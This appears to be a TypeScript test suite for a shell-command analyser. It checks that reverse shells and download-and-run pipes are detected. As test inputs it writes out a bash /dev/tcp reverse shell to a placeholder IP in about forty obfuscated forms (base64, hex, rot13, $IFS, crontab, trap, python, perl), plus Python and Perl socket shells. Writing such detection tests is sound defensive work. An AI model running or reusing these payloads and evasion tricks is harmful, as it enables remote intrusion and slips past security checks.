import { expect, test } from 'vitest'
import { analyseCommands } from './index.ts'

/** Rules that are broken, and what they were hidden in. */
const found = (script: string, language?: string): string[] =>
  analyseCommands(script, language === undefined ? {} : { language }).observations.map(({ rule }) => rule.id)

const REVERSE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
const BASE64 = Buffer.from(REVERSE).toString('base64')
const HEX = Buffer.from(REVERSE).toString('hex')
const reversed = Array.from(REVERSE).toReversed().join('')
const escaped = Array.from(REVERSE)
  .map((one) => String.raw`\x${one.codePointAt(0)?.toString(16)}`)
  .join('')
const rotated = REVERSE.replaceAll(/[a-z]/g, (one) =>
  String.fromCodePoint((((one.codePointAt(0) ?? 97) - 97 + 13) % 26) + 97),
)

test.each([
  ['quotes inside words', `b'a's""h -i >& /dev/t"cp"/203.0.113.7/4444 0>&1`],
  ['a variable', `a=bash; b=/dev/tcp; $a -i >& $b/203.0.113.7/4444 0>&1`],
  ['a line that goes on', `bash \\\n -i >& \\\n /dev/tcp/203.0.113.7/4444 0>&1`],
  ['sh -c in sh -c', `sh -c "bash -c '${REVERSE}'"`],
  ['sudo, nohup, env and the background', `sudo -u root nohup env A=1 ${REVERSE} &`],
  ['a here-document', `bash <<E\n${REVERSE}\nE`],
  ['a here-document with a quoted end', `cat <<'E' | sh\n${REVERSE}\nE`],
  ['a here-string', `bash <<< '${REVERSE}'`],
  ['$IFS', 'bash$IFS-i${IFS}>&/dev/tcp/203.0.113.7/4444 0>&1'],
  ['braces', `{bash,-i} >& /dev/tcp/203.0.113.7/4444 0>&1`],
  ['a part of a variable', 'x=aabashbb; ${x:2:4} -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ['the first character of PATH', 'bash -i >& ${PATH:0:1}dev${PATH:0:1}tcp/203.0.113.7/4444 0>&1'],
  ['ANSI quotes', String.raw`$'\x62ash' -i >& $'/dev/\164cp/203.0.113.7/4444' 0>&1`],
  ['base64', `echo ${BASE64} | base64 -d | bash`],
  ['base64 twice', `echo ${Buffer.from(BASE64).toString('base64')} | base64 -d | base64 -d | bash`],
  ['base64 in a substitution', `eval "$(echo ${BASE64} | base64 --decode)"`],
  ['base64 in backticks', `sh -c "\`echo ${BASE64}|base64 -d\`"`],
  ['base64 in a variable', `p=${BASE64}; echo $p | base64 -d | bash`],
  ['base64 by openssl', `echo ${BASE64} | openssl enc -base64 -d -A | bash`],
  ['base64 by braces', `bash -c '{echo,${BASE64}}|{base64,-d}|{bash,-i}'`],
  ['base64 in a file', `echo ${BASE64} > /tmp/a; base64 -d /tmp/a > /tmp/b; bash /tmp/b`],
  ['hex', `echo ${HEX} | xxd -r -p | sh`],
  ['reversed', `echo '${reversed}' | rev | bash`],
  ['printf', `printf '${escaped}' | bash`],
  ['echo -e', `echo -e "${escaped}" | bash`],
  ['tr', `echo '${rotated}' | tr 'a-z' 'n-za-m' | sh`],
  ['a file that is made and run', `echo '${REVERSE}' > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh`],
  ['a process substitution', `source <(echo ${BASE64} | base64 -d)`],
  ['a subshell in the background', `(${REVERSE} &)`],
  ['a subshell in a subshell', `((true; ${REVERSE}) | cat) &`],
  ['a loop', `while true; do ${REVERSE}; sleep 60; done`],
  ['a condition', `if ! pgrep x; then ${REVERSE}; fi`],
  ['a function', `f() { ${REVERSE}; }; f`],
  ['a case', `case $1 in start) ${REVERSE} ;; *) exit ;; esac`],
  ['a trap', `trap '${REVERSE}' EXIT`],
  ['find', `find / -maxdepth 0 -exec bash -c '${REVERSE}' \\;`],
  ['xargs', `echo '${REVERSE}' | xargs -I{} bash -c '{}'`],
  ['crontab', `(crontab -l; echo '* * * * * ${REVERSE}') | crontab -`],
  ['python', `python3 -c "import os; os.system('${REVERSE}')"`],
  ['python with a list', `python3 -c "import subprocess; subprocess.run(['bash', '-c', '${REVERSE}'])"`],
  ['perl', `perl -e 'system("${REVERSE}")'`],
])('a reverse shell in %s', (_what, script) => {
  expect(found(script)).toContain('CMD-001')
})

test('what goes through a pipe into an interpreter is told with the interpreter', () => {
  const { observations } = analyseCommands('curl -s http://203.0.113.7/a | base64 -d | sh\n')
  expect(observations).toContainEqual(
    expect.objectContaining({
      rule: expect.objectContaining({ id: 'CMD-040' }),
      evidence: 'curl -s http://203.0.113.7/a | base64 -d | sh',
    }),
  )
})

test('what it was hidden in is told, with the text that is run and its line', () => {
  const { observations } = analyseCommands(`true\n\necho ${BASE64} | base64 -d | bash\n`)
  expect(observations).toContainEqual(
    expect.objectContaining({
      rule: expect.objectContaining({ id: 'CMD-001' }),
      line: 3,
      encodings: ['base64'],
      evidence: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'.replace('>& /dev', '>&/dev').replace('0>&1', '0>&1'),
    }),
  )
})

test.each([
  [
    'python',
    `import base64\nexec(base64.b64decode("${Buffer.from('import socket,os\ns=socket.socket()\ns.connect(("203.0.113.7",1))\nos.dup2(s.fileno(),0)').toString('base64')}"))`,
    'CMD-010',
  ],
  ['python', `import os\nos.system("curl -s http://203.0.113.7/a | sh")`, 'CMD-040'],
  [
    'perl',
    'use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.7:1"); open(STDIN, "<&", $s); exec "/bin/sh";',
    'CMD-011',
  ],
])('a program in %s', (language, code, rule) => {
  expect(found(code, language)).toContain(rule)
})

const HOSTILE = [
  '$(',
  '`',
  '"',
  "'",
  '(',
  '{ ',
  'a=$a$a;',
  '${a',
  'if ',
  '<<E\n',
  'x|',
  'case a in b)',
  '\\',
  '$((',
  'echo {a,b}',
  '<(',
  '[[ ',
  'eval "$(echo ',
  'bash -c "',
  "nc -e '",
  '=',
  '&',
  ';;',
  'for x in ',
  'python -c "exec(',
  '\n',
  '>&',
  'a(){ ',
]

test.each(HOSTILE)('64 KiB of %j take no time and throw nothing', (text) => {
  const start = process.cpuUsage()
  for (const script of [text.repeat(65_536 / text.length), `${text}x `.repeat(65_536 / (text.length + 2))]) {
    expect(() => analyseCommands(script)).not.toThrow()
    expect(() => analyseCommands(script, { language: 'python' })).not.toThrow()
  }
  expect(process.cpuUsage(start).user / 1_000).toBeLessThan(3_000)
})

test('what is too deep is said', () => {
  let script = 'true'
  for (let depth = 0; depth < 12; depth++) script = `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`
  expect(analyseCommands(script).cuts).toEqual([expect.stringContaining('deep')])
})
